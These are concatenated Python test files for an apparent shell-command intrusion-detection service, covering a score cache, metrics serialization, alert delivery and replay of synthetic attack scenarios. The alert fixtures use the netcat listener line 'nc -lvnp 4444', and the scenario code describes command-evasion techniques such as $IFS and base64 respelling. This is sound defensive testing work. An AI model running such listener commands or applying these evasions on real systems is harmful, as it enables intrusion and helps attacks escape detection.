        # hit/miss/eviction/invalidation accounting matches the model
        assert cache.hits == model.hits
        assert cache.misses == model.misses
        assert cache.evictions == model.evictions
        assert cache.invalidated == model.invalidated
        assert cache.stale_puts == model.stale_puts
        assert cache.hits + cache.misses == gets
        if gets:
            assert cache.hit_rate == pytest.approx(cache.hits / gets)

    @settings(max_examples=100, deadline=None)
    @given(ops=_OPS)
    def test_generation_never_serves_cross_generation_scores(self, ops):
        """Whatever the interleaving, a lookup never returns an entry
        stamped with a generation other than the current one."""
        cache = ScoreCache(capacity=4)
        for op in ops:
            if op[0] == "put":
                cache.put(op[1], op[2])
            elif op[0] == "put_stale":
                cache.put(op[1], op[2], generation=cache.generation - 1)
            elif op[0] == "get":
                entry = cache.lookup(op[1])
                if entry is not None:
                    assert entry[1] == cache.generation
            else:
                cache.bump_generation()
