"""Tests for the LRU score cache."""

import pytest

from repro.serving import ScoreCache


class TestScoreCache:
    def test_miss_then_hit(self):
        cache = ScoreCache(capacity=4)
        assert cache.get("ls -la") is None
        cache.put("ls -la", 0.2)
        assert cache.get("ls -la") == 0.2
        assert cache.hits == 1
        assert cache.misses == 1

    def test_lru_eviction_order(self):
        cache = ScoreCache(capacity=2)
        cache.put("a", 0.1)
        cache.put("b", 0.2)
        cache.get("a")  # refresh a → b is now LRU
        cache.put("c", 0.3)
        assert "a" in cache
        assert "b" not in cache
        assert "c" in cache
        assert cache.evictions == 1

    def test_put_refreshes_existing_entry(self):
        cache = ScoreCache(capacity=2)
        cache.put("a", 0.1)
        cache.put("b", 0.2)
        cache.put("a", 0.9)  # refresh, not insert — no eviction
        assert len(cache) == 2
        assert cache.evictions == 0
        assert cache.get("a") == 0.9

    def test_capacity_bound_holds(self):
        cache = ScoreCache(capacity=3)
        for index in range(10):
            cache.put(f"line-{index}", float(index))
        assert len(cache) == 3
        assert cache.evictions == 7

    def test_zero_capacity_disables_caching(self):
        cache = ScoreCache(capacity=0)
        cache.put("a", 0.5)
        assert cache.get("a") is None
        assert len(cache) == 0

    def test_hit_rate(self):
        cache = ScoreCache(capacity=4)
        cache.put("a", 0.5)
        cache.get("a")
        cache.get("a")
        cache.get("missing")
        assert cache.hit_rate == pytest.approx(2 / 3)

    def test_clear_keeps_counters(self):
        cache = ScoreCache(capacity=4)
        cache.put("a", 0.5)
        cache.get("a")
        cache.clear()
        assert len(cache) == 0
        assert cache.hits == 1

    def test_negative_capacity_rejected(self):
        with pytest.raises(ValueError):
            ScoreCache(capacity=-1)
