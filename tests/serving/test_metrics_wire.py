"""Metrics wire-format tests: lossless round-trip, merge equivalence.

The fleet control plane ships :class:`ServingMetrics` across process
boundaries as ``to_dict()`` JSON and merges the rebuilt bundles into
fleet totals, so the wire form must carry **everything** ``merge``
reads: every summed counter, the flush-reason histogram, the EWMA and
swap figures, and the full latency reservoir.  The property under test
is merge equivalence — ``merge(from_dict(to_dict(a)), b)`` must equal
``merge(a, b)`` — which is exactly what makes fleet-wide totals and
percentiles trustworthy.
"""

import json

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.serving.metrics import ServingMetrics

COUNTERS = ServingMetrics._MERGE_SUM


def populated_bundle(
    *,
    events: int = 120,
    latencies: list[float] | None = None,
    reservoir: int = 64,
) -> ServingMetrics:
    metrics = ServingMetrics(latency_reservoir=reservoir)
    metrics.mark_start()
    metrics.events_total = events
    metrics.alerts = events // 3
    metrics.cache_hits = events // 2
    metrics.cache_misses = events - events // 2
    metrics.batches = max(1, events // 8)
    metrics.batched_events = events
    metrics.swaps = 2
    metrics.total_swap_ms = 12.5
    metrics.last_swap_ms = 5.5
    metrics.backend = "threaded(workers=2)"
    metrics.flush_reasons.update({"size": 3, "latency": 7})
    metrics.record_batch_score(4.0)
    for value in latencies if latencies is not None else [float(i) for i in range(50)]:
        metrics._latencies_ms.append(value)
    metrics.mark_stop()  # frozen clock: elapsed is a snapshot, like a wire form
    return metrics


class TestRoundTrip:
    def test_wire_form_is_json_and_lossless(self):
        source = populated_bundle()
        wire = json.loads(json.dumps(source.to_dict()))
        rebuilt = ServingMetrics.from_dict(wire)
        for attr in COUNTERS:
            assert getattr(rebuilt, attr) == getattr(source, attr), attr
        assert rebuilt.last_swap_ms == source.last_swap_ms
        assert rebuilt.batch_score_ewma_ms == source.batch_score_ewma_ms
        assert rebuilt.backend == source.backend
        assert rebuilt.flush_reasons == source.flush_reasons
        assert rebuilt.elapsed_seconds == source.elapsed_seconds
        assert rebuilt.latency_percentile(50) == source.latency_percentile(50)
        assert rebuilt.latency_percentile(99) == source.latency_percentile(99)
        assert rebuilt.snapshot() == source.snapshot()

    def test_round_trip_is_stable(self):
        source = populated_bundle()
        once = ServingMetrics.from_dict(source.to_dict())
        twice = ServingMetrics.from_dict(once.to_dict())
        assert once.to_dict() == twice.to_dict()

    def test_unknown_keys_ignored_missing_default_zero(self):
        # mixed-version fleets: a newer node ships counters an older
        # control plane does not know, an older node omits newer ones
        rebuilt = ServingMetrics.from_dict(
            {"events_total": 7, "counter_from_the_future": 99}
        )
        assert rebuilt.events_total == 7
        assert rebuilt.alerts == 0
        assert rebuilt.elapsed_seconds == 0.0

    def test_reservoir_capacity_travels(self):
        source = populated_bundle(reservoir=16, latencies=[float(i) for i in range(40)])
        rebuilt = ServingMetrics.from_dict(source.to_dict())
        assert rebuilt._latencies_ms.maxlen == 16
        assert list(rebuilt._latencies_ms) == list(source._latencies_ms)


class TestMergeEquivalence:
    def test_merge_after_wire_trip_equals_direct_merge(self):
        a = populated_bundle(events=120, latencies=[1.0, 2.0, 3.0, 50.0])
        b = populated_bundle(events=33, latencies=[10.0, 20.0])
        direct = ServingMetrics.merged([a, b])
        via_wire = ServingMetrics.merged([ServingMetrics.from_dict(a.to_dict()), b])
        assert via_wire.snapshot() == direct.snapshot()
        for p in (50, 95, 99):
            assert via_wire.latency_percentile(p) == direct.latency_percentile(p)

    @settings(max_examples=30, deadline=None)
    @given(
        events_a=st.integers(min_value=0, max_value=10_000),
        events_b=st.integers(min_value=0, max_value=10_000),
        latencies_a=st.lists(
            st.floats(min_value=0.0, max_value=1e4, allow_nan=False), max_size=80
        ),
        latencies_b=st.lists(
            st.floats(min_value=0.0, max_value=1e4, allow_nan=False), max_size=80
        ),
        reservoir=st.integers(min_value=4, max_value=64),
    )
    def test_merge_equivalence_property(
        self, events_a, events_b, latencies_a, latencies_b, reservoir
    ):
        """merge(from_dict(to_dict(a)), b) == merge(a, b), including the
        reservoir subsampling path when the merged samples overflow."""
        a = populated_bundle(events=events_a, latencies=latencies_a, reservoir=reservoir)
        b = populated_bundle(events=events_b, latencies=latencies_b, reservoir=reservoir)
        direct = ServingMetrics.merged([a, b])
        via_wire = ServingMetrics.merged(
            [ServingMetrics.from_dict(a.to_dict()), ServingMetrics.from_dict(b.to_dict())]
        )
        assert via_wire.snapshot() == direct.snapshot()
        assert list(via_wire._latencies_ms) == list(direct._latencies_ms)
