"""Tests for the durable delivery pipeline: per-sink queues, retries,
backpressure, dead-letters, and the zero-silent-drops invariant."""

import http.server
import json
import socketserver
import threading
import time

import pytest

from repro.serving import (
    AlertStatus,
    CallbackSink,
    DeliveryPipeline,
    DeliveryPolicy,
    DetectionAlert,
    RingBufferSink,
    Severity,
    TcpSocketSink,
    WebhookSink,
)
from repro.serving.sinks import AlertSink, ensure_sink


def make_alert(alert_id=1, score=0.9, host="web-1"):
    return DetectionAlert(
        alert_id=alert_id,
        event_id=alert_id,
        host=host,
        line="nc -lvnp 4444",
        score=score,
        severity=Severity.from_score(score, 0.5),
        status=AlertStatus.OPEN,
        timestamp=1000.0,
    )


FAST_RETRY = dict(backoff_ms=1.0, backoff_multiplier=1.0, max_backoff_ms=5.0)


class FlakySink(AlertSink):
    """Fails the first *failures* emit attempts, then succeeds."""

    def __init__(self, failures):
        self.failures = failures
        self.attempts = 0
        self.delivered = []

    def emit_many(self, alerts):
        self.attempts += 1
        if self.attempts <= self.failures:
            raise OSError("sink unavailable")
        self.delivered.extend(alerts)

    def emit(self, alert):
        self.emit_many([alert])


class TestPipelineBasics:
    def test_delivers_to_all_sinks_in_order(self):
        ring_a, ring_b = RingBufferSink(), RingBufferSink()
        pipeline = DeliveryPipeline([ring_a, ring_b])
        for index in range(5):
            pipeline.emit(make_alert(alert_id=index))
        pipeline.close()
        assert [a.alert_id for a in ring_a.alerts] == list(range(5))
        assert [a.alert_id for a in ring_b.alerts] == list(range(5))
        assert pipeline.delivered == 10
        assert pipeline.failures == {}

    def test_stats_keyed_per_instance_not_per_class(self):
        def explode(alert):
            raise OSError("boom")

        pipeline = DeliveryPipeline()
        pipeline.add(CallbackSink(explode), DeliveryPolicy(max_retries=0))
        pipeline.add(CallbackSink(lambda alert: None), DeliveryPolicy(max_retries=0))
        pipeline.emit(make_alert())
        pipeline.close()
        stats = pipeline.stats()
        assert set(stats) == {"CallbackSink[0]", "CallbackSink[1]"}
        assert stats["CallbackSink[0]"].dead_lettered == 1
        assert stats["CallbackSink[1]"].delivered == 1
        assert pipeline.failures == {"CallbackSink[0]": 1}

    def test_duplicate_explicit_names_are_uniquified(self):
        pipeline = DeliveryPipeline()
        assert pipeline.add(RingBufferSink(), name="siem") == "siem"
        assert pipeline.add(RingBufferSink(), name="siem") == "siem#2"

    def test_legacy_emit_only_object_is_auto_adapted(self):
        class LegacyDuck:  # not an AlertSink subclass at all
            def __init__(self):
                self.seen = []
                self.closed = False

            def emit(self, alert):
                self.seen.append(alert)

            def close(self):
                self.closed = True

        duck = LegacyDuck()
        pipeline = DeliveryPipeline()
        pipeline.add(duck)
        pipeline.emit(make_alert())
        pipeline.close()
        assert len(duck.seen) == 1
        assert duck.closed

    def test_ensure_sink_rejects_non_sinks(self):
        with pytest.raises(TypeError, match="not an alert sink"):
            ensure_sink(object())

    def test_restart_after_close(self):
        ring = RingBufferSink()
        pipeline = DeliveryPipeline([ring])
        pipeline.emit(make_alert(alert_id=1))
        pipeline.close()
        pipeline.emit(make_alert(alert_id=2))  # lazily restarts the worker
        pipeline.close()
        assert [a.alert_id for a in ring.alerts] == [1, 2]
        assert pipeline.delivered == 2


class TestRetryAndDeadLetter:
    def test_transient_failures_are_retried_to_success(self):
        flaky = FlakySink(failures=2)
        pipeline = DeliveryPipeline()
        pipeline.add(flaky, DeliveryPolicy(max_retries=3, **FAST_RETRY), name="flaky")
        pipeline.emit(make_alert())
        pipeline.flush()
        stats = pipeline.stats()["flaky"]
        assert [a.alert_id for a in flaky.delivered] == [1]
        assert stats.delivered == 1
        assert stats.retries == 2
        assert stats.dead_lettered == 0
        pipeline.close()

    def test_exhausted_retries_dead_letter_with_payload(self, tmp_path):
        dead = tmp_path / "letters" / "dead.jsonl"
        flaky = FlakySink(failures=100)
        pipeline = DeliveryPipeline()
        pipeline.add(
            flaky,
            DeliveryPolicy(max_retries=2, dead_letter_path=str(dead), **FAST_RETRY),
            name="doomed",
        )
        pipeline.emit(make_alert(alert_id=7))
        pipeline.close()
        stats = pipeline.stats()["doomed"]
        assert stats.dead_lettered == 1
        assert flaky.attempts == 3  # 1 first try + 2 retries
        records = [json.loads(line) for line in dead.read_text().splitlines()]
        assert records[0]["sink"] == "doomed"
        assert "sink unavailable" in records[0]["error"]
        assert records[0]["alert"]["alert_id"] == 7

    def test_dead_letter_without_path_is_counted_not_silent(self):
        pipeline = DeliveryPipeline()
        pipeline.add(FlakySink(failures=100), DeliveryPolicy(max_retries=0), name="lossy")
        pipeline.emit(make_alert())
        pipeline.close()
        assert pipeline.dead_lettered == 1
        assert pipeline.failures == {"lossy": 1}

    def test_backoff_grows_exponentially_and_caps(self):
        sleeps = []
        flaky = FlakySink(failures=4)
        pipeline = DeliveryPipeline()
        pipeline.add(
            flaky,
            DeliveryPolicy(
                max_retries=4, backoff_ms=10.0, backoff_multiplier=2.0, max_backoff_ms=25.0
            ),
            name="flaky",
        )
        worker = pipeline._workers[0]
        original_sleep = time.sleep
        with pytest.MonkeyPatch.context() as mp:
            mp.setattr(
                "repro.serving.delivery.time.sleep",
                lambda s: (sleeps.append(s), original_sleep(0))[1],
            )
            pipeline.emit(make_alert())
            pipeline.flush()
        pipeline.close()
        assert worker.stats.delivered == 1
        assert sleeps == [
            pytest.approx(0.010),
            pytest.approx(0.020),
            pytest.approx(0.025),  # capped at max_backoff_ms
            pytest.approx(0.025),
        ]


class TestBackpressure:
    def test_block_policy_loses_nothing(self):
        slow_seen = []

        class SlowSink(AlertSink):
            def emit_many(self, alerts):
                time.sleep(0.002)
                slow_seen.extend(alerts)

        pipeline = DeliveryPipeline()
        pipeline.add(SlowSink(), DeliveryPolicy(queue_size=2, on_full="block"), name="slow")
        for index in range(50):
            pipeline.emit(make_alert(alert_id=index))
        pipeline.close()
        assert len(slow_seen) == 50
        assert pipeline.stats()["slow"].dropped == 0

    def test_drop_policy_sheds_and_counts(self):
        release = threading.Event()

        class GatedSink(AlertSink):
            def __init__(self):
                self.seen = []

            def emit_many(self, alerts):
                release.wait(5.0)
                self.seen.append(list(alerts))

        gated = GatedSink()
        pipeline = DeliveryPipeline()
        pipeline.add(gated, DeliveryPolicy(queue_size=1, on_full="drop"), name="gated")
        pipeline.start()
        # worker grabs the first alert and parks on the gate; the queue
        # (capacity 1) then fills and further emits must shed
        pipeline.emit(make_alert(alert_id=0))
        deadline = time.monotonic() + 5.0
        while not pipeline._workers[0]._queue.empty() and time.monotonic() < deadline:
            time.sleep(0.001)
        pipeline.emit(make_alert(alert_id=1))  # fills the queue
        pipeline.emit(make_alert(alert_id=2))  # must drop
        pipeline.emit(make_alert(alert_id=3))  # must drop
        release.set()
        pipeline.close()
        stats = pipeline.stats()["gated"]
        assert stats.dropped == 2
        assert stats.delivered == 2
        # accounting is complete: nothing vanished silently
        assert stats.submitted == stats.delivered + stats.dead_lettered + stats.dropped


class _FlakyWebhookHandler(http.server.BaseHTTPRequestHandler):
    """Fails every other POST with a 500 — the injected 50%-failure SIEM."""

    received = None  # set per-server
    counter = None

    def do_POST(self):  # noqa: N802 (stdlib naming)
        length = int(self.headers.get("Content-Length", 0))
        body = json.loads(self.rfile.read(length).decode("utf-8"))
        self.counter.append(1)
        if len(self.counter) % 2 == 1:
            self.send_response(500)
            self.end_headers()
            return
        self.received.extend(body)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args):  # keep test output clean
        pass


@pytest.fixture
def flaky_webhook():
    received, counter = [], []
    handler = type(
        "Handler", (_FlakyWebhookHandler,), {"received": received, "counter": counter}
    )
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/alerts", received
    server.shutdown()
    server.server_close()
    thread.join(timeout=5.0)


class TestWebhookDelivery:
    def test_fifty_percent_failure_webhook_loses_nothing(self, flaky_webhook, tmp_path):
        """Acceptance: with 50% injected failures every alert is delivered
        (retries) or dead-lettered — zero silent drops."""
        url, received = flaky_webhook
        dead = tmp_path / "dead.jsonl"
        pipeline = DeliveryPipeline()
        pipeline.add(
            WebhookSink(url, timeout=5.0),
            DeliveryPolicy(
                queue_size=64,
                on_full="block",
                max_retries=3,
                dead_letter_path=str(dead),
                **FAST_RETRY,
            ),
            name="siem",
        )
        total = 40
        for index in range(total):
            pipeline.emit(make_alert(alert_id=index))
        pipeline.close()

        stats = pipeline.stats()["siem"]
        assert stats.submitted == total
        assert stats.retries > 0  # the 50% failures really bit
        delivered_ids = {record["alert_id"] for record in received}
        dead_ids = (
            {json.loads(line)["alert"]["alert_id"] for line in dead.read_text().splitlines()}
            if dead.exists()
            else set()
        )
        # no silent drops: every alert is accounted for exactly once
        assert delivered_ids | dead_ids == set(range(total))
        assert delivered_ids & dead_ids == set()
        assert stats.delivered == len(delivered_ids)
        assert stats.dead_lettered == len(dead_ids)
        assert stats.dropped == 0
        # an alternating 50% failure always succeeds within 3 retries
        assert dead_ids == set()

    def test_webhook_sink_posts_json_array(self, flaky_webhook):
        url, received = flaky_webhook
        sink = WebhookSink(url, timeout=5.0)
        with pytest.raises(Exception):  # first request is injected to fail
            sink.emit_many([make_alert(alert_id=1)])
        sink.emit_many([make_alert(alert_id=1), make_alert(alert_id=2)])
        assert [record["alert_id"] for record in received] == [1, 2]
        assert sink.emitted == 2
        assert sink.requests == 2


class TestTcpDelivery:
    def test_tcp_sink_streams_ndjson(self):
        chunks = []
        done = threading.Event()

        class Collector(socketserver.StreamRequestHandler):
            def handle(self):
                for raw in self.rfile:
                    chunks.append(raw.decode("utf-8"))
                done.set()

        server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Collector)
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            sink = TcpSocketSink("127.0.0.1", server.server_address[1], timeout=5.0)
            pipeline = DeliveryPipeline()
            pipeline.add(sink, DeliveryPolicy(max_retries=2, **FAST_RETRY), name="tcp")
            pipeline.emit(make_alert(alert_id=1))
            pipeline.emit(make_alert(alert_id=2))
            pipeline.close()  # closes the socket → collector sees EOF
            assert done.wait(5.0)
            records = [json.loads(chunk) for chunk in chunks]
            assert [record["alert_id"] for record in records] == [1, 2]
        finally:
            server.shutdown()
            server.server_close()
            thread.join(timeout=5.0)

    def test_connection_refused_dead_letters(self, tmp_path):
        # grab a port with nothing listening on it
        import socket as socket_mod

        probe = socket_mod.socket()
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
        probe.close()

        dead = tmp_path / "dead.jsonl"
        pipeline = DeliveryPipeline()
        pipeline.add(
            TcpSocketSink("127.0.0.1", port, timeout=0.2),
            DeliveryPolicy(max_retries=1, dead_letter_path=str(dead), **FAST_RETRY),
            name="refused",
        )
        pipeline.emit(make_alert())
        pipeline.close()
        assert pipeline.stats()["refused"].dead_lettered == 1
        assert dead.exists()
