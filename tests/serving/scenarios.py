"""Loggen-driven scenario replay for the serving path.

The serving suite's unit tests drive :class:`DetectionServer` with
hand-picked lines; this module replays *labelled multi-host streams*
synthesized from the telemetry generator (:mod:`repro.loggen`) —
realistic attack sessions from :class:`AttackSampler`, role-driven
benign traffic from :class:`BenignSessionGenerator`, ground truth from
:class:`GroundTruthOracle` — end to end through the server, so tests can
assert *who escalates, when, and with which status* under each
escalation policy.

Stage-1 verdicts come from :class:`OracleService`, a deterministic
stand-in whose per-line scores follow the scenario's ground truth and
whose sequence scores follow the composed window's malicious content
(high only when the context corroborates — at least two malicious
segments).  That isolates exactly what these tests prove: the
escalation *policy* layer, not the model's accuracy.

Build a scenario with :class:`ScenarioBuilder`, replay it with
:func:`replay`::

    builder = ScenarioBuilder(seed=7)
    builder.low_and_slow_attacker("h-slow", user="mallory")
    scenario = builder.build("low-and-slow")
    report = replay(scenario, mode="sequence")
    assert report.escalated == {"h-slow"}
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta

import numpy as np

from repro.loggen import (
    AttackSampler,
    BenignSessionGenerator,
    Campaign,
    CommandDataset,
    EvasionMutator,
    FleetConfig,
    FleetSimulator,
    GroundTruthOracle,
    LogRecord,
    Variant,
)
from repro.serving import (
    CanonicalizeConfig,
    CommandEvent,
    DetectionServer,
    SessionConfig,
    serve_stream,
)
from repro.tuning.multiline import SEPARATOR

#: Scenario clock zero (the paper's test window).
EPOCH = datetime(2022, 5, 29)

#: Heavy-tail "abnormal yet benign" lines the oracle scores just above
#: threshold — the false alarms a count policy can be stampeded by.
NOISY_BENIGN_TEMPLATES = (
    "mv /data/archive-{i:04d}.tar /mnt/backup/archive-{i:04d}.tar",
    "tar -czf /tmp/rotate-{i:04d}.tgz /var/log/app-{i:04d}",
    "find / -name 'core.{i:04d}' -size +1G -delete",
)


def normalize(raw: str) -> str:
    """The oracle's preprocessing: whitespace collapse (never drops)."""
    return " ".join(raw.split())


@dataclass(frozen=True)
class Scenario:
    """A labelled multi-host event stream plus its ground truth."""

    name: str
    dataset: CommandDataset
    events: tuple[CommandEvent, ...]
    malicious_lines: frozenset[str]
    noisy_lines: frozenset[str]
    hosts: frozenset[str]


class ScenarioBuilder:
    """Compose attack/benign traffic into one time-sorted scenario.

    All ``at`` offsets are seconds from :data:`EPOCH`; every builder
    method returns the list of raw lines it injected so tests can anchor
    assertions to specific commands.
    """

    def __init__(self, seed: int = 0, start: datetime = EPOCH):
        rng = np.random.default_rng(seed)
        self._attacks = AttackSampler(np.random.default_rng(int(rng.integers(2**31))))
        self._benign = BenignSessionGenerator(np.random.default_rng(int(rng.integers(2**31))))
        self._mutator = EvasionMutator(rng=np.random.default_rng(int(rng.integers(2**31))))
        self._records: list[LogRecord] = []
        self._noisy: set[str] = set()
        #: Canonical signature forms the detector "knows" (added to the
        #: malicious set even though no event carries them verbatim).
        self._signatures: set[str] = set()
        #: Normalized evasion-variant spellings (removed from the
        #: malicious set — the raw detector must *not* know them).
        self._evaded: set[str] = set()
        self._noise_counter = 0
        self.start = start

    # -- primitives --------------------------------------------------------

    def _add(
        self,
        line: str,
        host: str,
        user: str,
        at: float,
        *,
        malicious: bool,
        scenario: str,
        variant: Variant,
    ) -> None:
        self._records.append(
            LogRecord(
                line=line,
                user=user,
                machine=host,
                timestamp=self.start + timedelta(seconds=at),
                scenario=scenario,
                is_malicious=malicious,
                variant=variant,
            )
        )

    def _attack_lines(self, n: int, inbox: bool) -> list[tuple[str, str]]:
        """At least *n* instantiated attack lines as (family, line)."""
        out: list[tuple[str, str]] = []
        while len(out) < n:
            family, session = self._attacks.sample_any(inbox=inbox)
            out.extend((family, line) for line in session)
        return out[:n]

    def _benign_lines(self, role: str, user: str, n: int) -> list[tuple[str, str]]:
        """At least *n* benign lines as (scenario, line)."""
        out: list[tuple[str, str]] = []
        while len(out) < n:
            plan = self._benign.generate(role, user)
            out.extend((plan.scenario, line) for line in plan.lines)
        return out[:n]

    # -- scenario shapes ---------------------------------------------------

    def attack_burst(
        self,
        host: str,
        user: str = "mallory",
        at: float = 0.0,
        n: int = 6,
        spacing: float = 10.0,
        inbox: bool = True,
    ) -> list[str]:
        """A classic smash-and-grab: *n* attack lines *spacing* apart."""
        lines = []
        for index, (family, line) in enumerate(self._attack_lines(n, inbox)):
            self._add(
                line,
                host,
                user,
                at + index * spacing,
                malicious=True,
                scenario=f"attack.{family}",
                variant=Variant.INBOX if inbox else Variant.OUTBOX,
            )
            lines.append(line)
        return lines

    def low_and_slow_attacker(
        self,
        host: str,
        user: str = "mallory",
        at: float = 0.0,
        n: int = 4,
        spacing: float = 150.0,
        camouflage_role: str | None = "devops",
        inbox: bool = False,
    ) -> list[str]:
        """An attacker pacing alerts *under* the count threshold.

        Attack lines land every *spacing* seconds — sparse enough that a
        rolling count window never fills — with one benign camouflage
        line between each pair (as a patient intruder interleaves normal
        activity).  The attack lines stay temporally contiguous enough
        that a composed context window still reads as a sequence.
        """
        lines = []
        attack = self._attack_lines(n, inbox)
        camouflage = (
            self._benign_lines(camouflage_role, user, max(n - 1, 0))
            if camouflage_role
            else []
        )
        for index, (family, line) in enumerate(attack):
            self._add(
                line,
                host,
                user,
                at + index * spacing,
                malicious=True,
                scenario=f"attack.{family}",
                variant=Variant.INBOX if inbox else Variant.OUTBOX,
            )
            lines.append(line)
            if index < len(camouflage):
                scenario, benign_line = camouflage[index]
                self._add(
                    benign_line,
                    host,
                    user,
                    at + index * spacing + spacing / 2,
                    malicious=False,
                    scenario=scenario,
                    variant=Variant.BENIGN,
                )
        return lines

    def evasion_burst(
        self,
        host: str,
        user: str = "mallory",
        at: float = 0.0,
        n: int = 6,
        spacing: float = 10.0,
        technique: str | None = None,
        inbox: bool = True,
    ) -> list[str]:
        """An attack burst respelled through :class:`EvasionMutator`.

        The *events* carry evasion variants (quote fragments, ``$IFS``,
        base64 pipelines, …) while the detector's known-malicious set is
        seeded with the **canonical** form of each base line only — so
        the raw pipeline misses every variant and a canonicalizing
        pipeline resolves all of them.  Returns the variant lines.
        """
        lines: list[str] = []
        while len(lines) < n:
            family, session = self._attacks.sample_any(inbox=inbox)
            for base in session:
                mutated = self._mutator.mutate(base, technique)
                if mutated is None:
                    continue
                used, variant = mutated
                canonical = self._mutator.canonical(base)
                self._add(
                    variant,
                    host,
                    user,
                    at + len(lines) * spacing,
                    malicious=True,
                    scenario=f"evasion.{family}.{used}",
                    variant=Variant.INBOX if inbox else Variant.OUTBOX,
                )
                self._signatures.add(canonical)
                self._evaded.add(normalize(variant))
                lines.append(variant)
                if len(lines) >= n:
                    break
        return lines

    def campaign(
        self,
        campaign: Campaign,
        user: str = "mallory",
        at: float = 0.0,
        spacing: float = 20.0,
    ) -> list[str]:
        """Place a staged :class:`Campaign` on its own host.

        Each step's emitted line becomes a malicious event; the
        detector's signature set learns the step's canonical form (and
        the base spelling, so un-evaded steps stay catchable raw) while
        evaded spellings are excluded from it.
        """
        for index, step in enumerate(campaign.steps):
            self._add(
                step.line,
                campaign.host,
                user,
                at + index * spacing,
                malicious=True,
                scenario=f"campaign.{campaign.name}.{step.stage}",
                variant=Variant.INBOX,
            )
            self._signatures.add(step.canonical)
            self._signatures.add(normalize(step.base))
            if step.technique is not None:
                self._evaded.add(normalize(step.line))
        return campaign.lines

    def benign_power_user(
        self,
        host: str,
        user: str = "alice",
        role: str = "developer",
        at: float = 0.0,
        sessions: int = 6,
        session_gap: float = 120.0,
        spacing: float = 5.0,
    ) -> list[str]:
        """A heavy but honest user: back-to-back benign sessions."""
        lines = []
        cursor = at
        for _ in range(sessions):
            plan = self._benign.generate(role, user)
            for line in plan.lines:
                self._add(
                    line,
                    host,
                    user,
                    cursor,
                    malicious=False,
                    scenario=plan.scenario,
                    variant=Variant.BENIGN,
                )
                lines.append(line)
                cursor += spacing
            cursor += session_gap
        return lines

    def noisy_benign_burst(
        self,
        host: str,
        user: str = "bob",
        at: float = 0.0,
        n: int = 6,
        spacing: float = 10.0,
    ) -> list[str]:
        """Abnormal-yet-benign lines the oracle flags as borderline.

        These produce genuine stage-1 alerts (false positives) in a
        tight burst — enough to stampede a count policy — while the
        ground truth, and therefore the sequence stage, stays benign.
        """
        lines = []
        for index in range(n):
            template = NOISY_BENIGN_TEMPLATES[self._noise_counter % len(NOISY_BENIGN_TEMPLATES)]
            line = template.format(i=self._noise_counter)
            self._noise_counter += 1
            self._add(
                line,
                host,
                user,
                at + index * spacing,
                malicious=False,
                scenario="benign.abnormal",
                variant=Variant.BENIGN,
            )
            self._noisy.add(normalize(line))
            lines.append(line)
        return lines

    def lateral_movement(
        self,
        hosts: list[str],
        user: str = "mallory",
        at: float = 0.0,
        per_host: int = 2,
        spacing: float = 60.0,
        hop_gap: float = 90.0,
        inbox: bool = False,
    ) -> dict[str, list[str]]:
        """An attacker hopping across *hosts*, a few commands on each.

        Per host the alert count stays far below any sane count
        threshold; only the per-host composed windows betray the
        pattern.
        """
        placed: dict[str, list[str]] = {}
        cursor = at
        for host in hosts:
            placed[host] = []
            for family, line in self._attack_lines(per_host, inbox):
                self._add(
                    line,
                    host,
                    user,
                    cursor,
                    malicious=True,
                    scenario=f"attack.{family}",
                    variant=Variant.INBOX if inbox else Variant.OUTBOX,
                )
                placed[host].append(line)
                cursor += spacing
            cursor += hop_gap
        return placed

    def background_fleet(
        self,
        n_lines: int = 200,
        days: int = 1,
        n_users: int = 10,
        n_machines: int = 20,
        seed: int = 0,
    ) -> CommandDataset:
        """Ambient benign fleet traffic from the full simulator.

        A :class:`FleetSimulator` run with the attack rate forced to
        zero: role-driven sessions, typos, heavy-tail noise — the
        background a real deployment escalates *against*.  Its machines
        (``m000000``-style hosts) are disjoint from hand-placed scenario
        hosts, so expectations about who escalates stay exact.
        """
        config = FleetConfig(
            n_users=n_users,
            n_machines=n_machines,
            attack_session_rate=0.0,
            seed=seed,
        )
        data = FleetSimulator(config).generate(self.start, days=days, target_lines=n_lines)
        self._records.extend(data.records)
        return data

    # -- assembly ----------------------------------------------------------

    def build(self, name: str) -> Scenario:
        """Time-sort everything into a replayable labelled scenario.

        The detector's known-malicious set starts from ground truth,
        then *forgets* evasion-variant spellings and *learns* canonical
        signature forms — so what the oracle recognizes is the
        signature library, not a transcript of the attack.
        """
        dataset = CommandDataset(self._records).sorted_by_time()
        labels = GroundTruthOracle(dataset).labels()
        malicious = frozenset(
            {
                normalize(record.line)
                for record, label in zip(dataset, labels)
                if label == 1
            }
            - self._evaded
            | self._signatures
        )
        events = tuple(
            CommandEvent(
                line=record.line,
                host=record.machine,
                timestamp=record.timestamp.timestamp(),
            )
            for record in dataset
        )
        hosts = frozenset(record.machine for record in dataset)
        return Scenario(
            name=name,
            dataset=dataset,
            events=events,
            malicious_lines=malicious,
            noisy_lines=frozenset(self._noisy),
            hosts=hosts,
        )


class OracleService:
    """Deterministic two-stage service backed by scenario ground truth.

    Stage 1 scores 0.9 for truly-malicious lines, 0.6 for designated
    noisy-benign lines (false alarms), 0.1 otherwise.  Stage 2 scores a
    composed window 0.9 when at least two of its ``;``-separated
    segments are truly malicious (the context corroborates), else 0.2.
    """

    threshold = 0.5
    has_sequence_head = True

    def __init__(
        self, malicious_lines: frozenset[str], noisy_lines: frozenset[str] = frozenset()
    ):
        self.malicious = malicious_lines
        self.noisy = noisy_lines
        self.scored_batches: list[list[str]] = []
        #: Every composed text the second stage was asked to score.
        self.sequence_calls: list[str] = []

    @classmethod
    def for_scenario(cls, scenario: Scenario) -> "OracleService":
        return cls(scenario.malicious_lines, scenario.noisy_lines)

    def preprocess(self, raw: str) -> str | None:
        line = normalize(raw)
        return line or None

    def score_normalized(self, lines):
        self.scored_batches.append(list(lines))
        return np.array(
            [
                0.9 if line in self.malicious else (0.6 if line in self.noisy else 0.1)
                for line in lines
            ]
        )

    def score_sequence(self, texts):
        scores = []
        for text in texts:
            self.sequence_calls.append(text)
